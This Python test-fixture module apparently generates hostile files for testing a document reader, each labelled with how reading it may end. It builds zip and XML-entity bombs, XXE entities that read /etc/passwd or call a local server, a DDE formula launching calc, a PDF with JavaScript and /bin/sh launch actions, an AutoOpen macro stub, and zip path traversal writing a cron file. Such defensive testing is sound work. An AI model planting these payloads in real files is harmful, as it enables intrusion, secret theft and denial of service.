"""Files that want to harm: each with the only ways in which reading it may end."""

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from typing import NamedTuple

from tests.documents import made

READ = "read"  # text came out, as of any document
MIB = 1 << 20
CANARY = "Zanahorio"  # stands in those that can be read
# Set by a test: where nobody must connect to, and what must not be read.
SERVER = "http://127.0.0.1:9/"
SECRET = "/etc/passwd"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SLIDE = (
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
STRINGS = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "ja">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{}">]>'
PARAGRAPH = f"<w:p><w:r><w:t>{CANARY} es texto</w:t></w:r></w:p>"


class Hostile(NamedTuple):
    """A file and how its reading may end: READ, or reasons of Unreadable."""

    name: str
    content: Callable[[], bytes]
    ends: frozenset[str]
    dear: bool = False  # takes seconds, by its nature


def files() -> list[Hostile]:
    """All of them."""
    return [
        Hostile(name, content, frozenset(ends.split()), name in DEAR)
        for name, (content, ends) in FILES.items()
    ]


def _zip(*entries: tuple[str, bytes | str], level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as package:
        for name, content in entries:
            package.writestr(name, content)
    return buffer.getvalue()


def docx(document: bytes | str, *more: tuple[str, bytes | str]) -> bytes:
    return _zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", document), *more)


def body(inner: str, front: str = "") -> str:
    return f"{front}<w:document {WORD}><w:body>{inner}</w:body></w:document>"


def _changed(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """A package with one of its parts changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        entries = [(one, package.read(one)) for one in package.namelist()]
    return _zip(*((one, change(raw) if one == name else raw) for one, raw in entries))


def _bomb_docx() -> bytes:
    """300 MB of one letter in 300 kB."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
        package.open("word/document.xml", "w") as part,
    ):
        part.write(body("").partition("</w:body>")[0].encode() + b"<w:p><w:r><w:t>")
        for _ in range(300):
            part.write(b"a" * MIB)
    return buffer.getvalue()


def _lying_docx() -> bytes:
    """Its directory says a thousand bytes where 40 MB follow."""
    raw = bytearray(docx(body(PARAGRAPH * 2000) + " " * 40 * MIB))
    for found in re.finditer(b"PK\x01\x02", bytes(raw)):
        at = found.start()
        if raw[at + 46 : at + 63] == b"word/document.xml":
            raw[at + 24 : at + 28] = struct.pack("<I", 1000)
    return bytes(raw)


def _sheet(rows: str, shared: str = "") -> bytes:
    content = made.xlsx((made.Part("Hoja", CANARY),))
    if shared:
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            entries = [(one, package.read(one)) for one in package.namelist()]
        content = _zip(*entries, ("xl/sharedStrings.xml", shared))
        names = b'<Override PartName="/xl/sharedStrings.xml" ContentType="%s"/></Types>' % STRINGS
        content = _changed(
            content, "[Content_Types].xml", lambda raw: raw.replace(b"</Types>", names)
        )
        rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    if rows:
        size = "<dimension ref='A1:XFD1048576'/>"
        whole = f"<worksheet {SHEET}>{size}<sheetData>{rows}</sheetData></worksheet>"
        content = _changed(content, "xl/worksheets/sheet1.xml", lambda _: whole.encode())
    return content


def _shared_strings(count: int, letters: int) -> bytes:
    """Strings that openpyxl keeps all."""
    items = f"<si><t>{'a' * letters}</t></si>" * count
    return _sheet("", f"<sst {SHEET}>{items}</sst>")


def _wide() -> bytes:
    cell = '<c r="XFD{}" t="inlineStr"><is><t>Zanahorio</t></is></c>'
    rows = "".join(f'<row r="{r}">{cell.format(r)}</row>' for r in (1, 500_000, 1_048_576))
    near = '<row r="2"><c r="A2" t="inlineStr"><is><t>Zanahorio</t></is></c></row>'
    return _sheet(rows.replace('<row r="500000">', f'{near}<row r="500000">'))


def _dde() -> bytes:
    formula = "cmd|'/C calc'!A0"
    return _sheet(
        f'<row r="1"><c r="A1"><f>{formula}</f><v>7</v></c>'
        f'<c r="B1" t="inlineStr"><is><t>{CANARY}</t></is></c></row>'
    )


def _slides(presentation: Callable[[bytes], bytes]) -> bytes:
    return _changed(made.pptx((made.Part(CANARY, "texto"),)), "ppt/presentation.xml", presentation)


def _same_slide() -> bytes:
    """One slide, half a million times."""
    return _slides(
        lambda raw: re.sub(rb"(<p:sldId [^>]*/>)", lambda one: one[1] * 500_000, raw, count=1)
    )


def _notes_of_itself() -> bytes:
    rels = "ppt/slides/_rels/slide1.xml.rels"
    one = (
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/notesSlide" Target="../slides/slide1.xml"/></Relationships>'
    )
    content = made.pptx((made.Part(CANARY, "texto"),))
    return _changed(content, rels, lambda raw: raw.replace(b"</Relationships>", one))


def _pdf(objects: Iterable[str | bytes], trailer: str = "/Root 1 0 R") -> bytes:
    """Objects numbered from 1, with a table and a trailer."""
    raw, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(raw))
        body = one if isinstance(one, bytes) else one.encode("latin-1")
        raw += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    at = len(raw)
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    raw += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}".encode()
    return raw + f"trailer <</Size {len(places) + 1} {trailer}>>\nstartxref\n{at}\n%%EOF".encode()


FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
SAYS = f"BT /F 12 Tf 72 700 Td ({CANARY} es texto) Tj ET"


def _stream(content: bytes, more: str = "") -> bytes:
    return f"<<{more}/Length {len(content)}>>\nstream\n".encode() + content + b"\nendstream"


def one_page(content: bytes, *, catalog: str = "", page: str = "", more: str = "") -> bytes:
    return _pdf(
        [
            f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R{page}"
            "/Resources<</Font<</F 5 0 R>>/XObject<</X 4 0 R>>>>>>",
            _stream(content, more),
            FONT,
        ]
    )


def _script_pdf() -> bytes:
    script = "/OpenAction<</S/JavaScript/JS(app.launchURL('%s'); this.submitForm('%s'))>>"
    launch = "/AA<</O<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>>>"
    return one_page(SAYS.encode(), catalog=script % (SERVER, SERVER), page=launch)


def _deflated_pdf() -> bytes:
    """A page of 1 GB in 1 MB."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(b" " * MIB) for _ in range(1024)) + packer.flush()
    return one_page(packed, more="/Filter/FlateDecode")


def _cyclic_pages() -> bytes:
    return _pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"])


def _countless_pages() -> bytes:
    return _pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 999999999>>"])


def _cyclic_table() -> bytes:
    raw = one_page(SAYS.encode())
    at = raw.rindex(b"xref\n0")
    return raw.replace(b"/Root 1 0 R", f"/Root 1 0 R/Prev {at}".encode())


def _same_page() -> bytes:
    """A tree whose leaves are one page, 10^7 times."""
    levels = 7
    kids = [
        f"<</Type/Pages/Count {10 ** (levels - n)}/Kids[{f'{n + 3} 0 R ' * 10}]>>"
        for n in range(levels)
    ]
    page = f"<</Type/Page/MediaBox[0 0 9 9]/Contents {levels + 3} 0 R/Resources<<>>>>"
    return _pdf(["<</Type/Catalog/Pages 2 0 R>>", *kids, page, _stream(b"")])


def _encrypted_pdf(user: str = "secreto") -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(made.pdf((made.Part("", CANARY),))))
    writer.encrypt(user_password=user, owner_password="dueño", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _macros() -> bytes:
    content = made.docx((made.Part("Título", CANARY),))
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        entries = [(one, package.read(one)) for one in package.namelist()]
    auto = b"Attribute VB_Name = AutoOpen\nSub AutoOpen()\nShell(cmd)\nEnd Sub"
    return _zip(*entries, ("word/vbaProject.bin", auto), ("word/activeX/activeX1.bin", auto))


def _outside_paths() -> bytes:
    return docx(
        body(PARAGRAPH),
        ("/etc/cron.d/zanahorio", "* * * * * root id"),
        ("../../../../tmp/zanahorio", "x"),
        ("C:\\Windows\\zanahorio.exe", "MZ"),
    )


def _template_from_afar() -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://x/attachedTemplate" TargetMode="External"'
        f' Target="{SERVER}plantilla.dotm"/></Relationships>'
    )
    return docx(body(PARAGRAPH), ("word/_rels/document.xml.rels", rels))


def _many_entries() -> bytes:
    return docx(body(PARAGRAPH), *((f"x/{n}", b"") for n in range(20_000)))


def _ole(inside: bytes = b"") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000 + inside + b"\0" * 2000


def _noise() -> bytes:
    return b"\x89\x90" + random.Random(7).randbytes(300_000)


FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    # zip bombs
    "bomba.docx": (_bomb_docx, "heavy"),
    "tamaño mentido.docx": (_lying_docx, "broken"),
    "bomba de textos.xlsx": (lambda: _shared_strings(1_500_000, 100), "heavy"),
    "textos justos.xlsx": (lambda: _shared_strings(1_000_000, 1), "read heavy"),
    "zip en zip.docx": (
        lambda: _zip(*((f"{n}.zip", _zip(("b", b"0" * MIB))) for n in range(3))),
        "unknown",
    ),
    "20.000 entradas.docx": (_many_entries, READ),
    # XML
    "mil millones de risas.docx": (lambda: docx(body(f"{PARAGRAPH}&l11;", LAUGHS)), "read broken"),
    "mil millones de risas.xlsx": (
        lambda: _sheet("", f"{LAUGHS}<sst {SHEET}><si><t>{CANARY} &l11;</t></si></sst>"),
        "empty broken read",
    ),
    "mil millones de risas.pptx": (
        lambda: _changed(
            made.pptx((made.Part(CANARY, "texto"),)),
            "ppt/slides/slide1.xml",
            lambda raw: LAUGHS.encode() + raw.partition(b"?>")[2].replace(b"texto", b"&l11;"),
        ),
        "read broken",
    ),
    "entidad cuadrática.docx": (
        lambda: docx(
            body(
                f"<w:p><w:r><w:t>{CANARY}{'&e;' * 50_000}</w:t></w:r></w:p>",
                f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>',
            )
        ),
        "read broken",
    ),
    "entidad de un archivo.docx": (
        lambda: docx(
            body(
                f"<w:p><w:r><w:t>{CANARY} &e;</w:t></w:r></w:p>", XXE.format(f"file://{SECRET}")
            )
        ),
        "read broken",
    ),
    "entidad de la red.docx": (
        lambda: docx(
            body(f"<w:p><w:r><w:t>{CANARY} &e;</w:t></w:r></w:p>", XXE.format(SERVER))
        ),
        "read broken",
    ),
    "plantilla de afuera.docx": (_template_from_afar, READ),
    "anidado.docx": (
        lambda: docx(body("<w:sdt>" * 100_000 + PARAGRAPH + "</w:sdt>" * 100_000)),
        "broken",
    ),
    "anidado.html": (
        lambda: b"<html><body>" + b"<div>" * 200_000 + CANARY.encode(),
        "read broken empty",
    ),
    "anidado.md": (lambda: b"# uno\n" + b">" * 1_000_000 + CANARY.encode(), "read heavy"),
    "corchetes.md": (lambda: f"# uno\n{CANARY} ".encode() + b"[" * 3_000_000, "read heavy"),
    # tables
    "millón de filas.xlsx": (_wide, READ),
    "fórmula DDE.xlsx": (_dde, READ),
    "una línea.csv": (lambda: f'"{CANARY};'.encode() + b"b;" * 2_000_000, "read broken"),
    "comillas.csv": (lambda: f'a;{CANARY}\n"c;'.encode() + b"d\n" * 2_000_000, "read broken"),
    # slides
    "misma diapositiva.pptx": (_same_slide, READ),
    "notas de sí misma.pptx": (_notes_of_itself, READ),
    # PDF
    "programa.pdf": (_script_pdf, READ),
    "clave.pdf": (_encrypted_pdf, "encrypted"),
    "clave del dueño.pdf": (lambda: _encrypted_pdf(user=""), READ),
    "bomba.pdf": (_deflated_pdf, "broken heavy scanned"),
    "páginas en círculo.pdf": (_cyclic_pages, "broken empty scanned heavy"),
    "páginas sin fin.pdf": (_countless_pages, "broken empty scanned heavy"),
    "misma página.pdf": (_same_page, "broken scanned heavy"),
    "tabla en círculo.pdf": (_cyclic_table, "read broken"),
    "dibujo de sí mismo.pdf": (lambda: one_page(b"/X Do /X Do " + SAYS.encode(),
        more="/Type/XObject/Subtype/Form/Resources<</XObject<</X 4 0 R>>/Font<</F 5 0 R>>>>"),
        "read broken heavy"),
    "corchetes.pdf": (lambda: one_page(b"[" * 500_000 + SAYS.encode()), "broken scanned heavy"),
    "truncado.pdf": (lambda: made.documents()[0].content[:1500], "broken read scanned empty"),
    # damaged, or not what they say
    "truncado.docx": (lambda: made.docx((made.Part("a", CANARY),))[:20_000], "broken"),
    "imagen.pdf": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0\1\2" * 500, "unknown"),
    "programa.docx": (lambda: b"MZ\x90\0" + b"\0" * 3000, "unknown"),
    "viejo.doc": (_ole, "old_office"),
    "cifrado.docx": (lambda: _ole("EncryptedPackage".encode("utf-16-le")), "encrypted"),
    "macros.docx": (_macros, READ),
    "rutas de afuera.docx": (_outside_paths, READ),
    "pdf con otro nombre.txt": (lambda: one_page(SAYS.encode()), READ),
    "página con otro nombre.pdf": (
        lambda: (
            f"<html><img src={SERVER}a.png><meta http-equiv=refresh content='0;{SERVER}'>"
            f"<script src={SERVER}x.js></script><p>{CANARY}</p>"
        ).encode(),
        READ,
    ),
    "objeto.rtf": (lambda: rb"{\rtf1{\object\objdata 0105}" + CANARY.encode() + b"}", "unknown"),
    "ruido.pdf": (_noise, "unknown"),
    "vacío.pdf": (lambda: b"", "empty"),
    "100 MB.txt": (lambda: f"{CANARY} y nada más. ".encode() * (100 * MIB // 23), READ),
}  # fmt: skip
# They take seconds, by their nature or to make: `python -m bench documents` tries them.
DEAR = frozenset(
    {
        "100 MB.txt",
        "bomba de textos.xlsx",
        "bomba.pdf",
        "misma página.pdf",
        "textos justos.xlsx",
    }
)
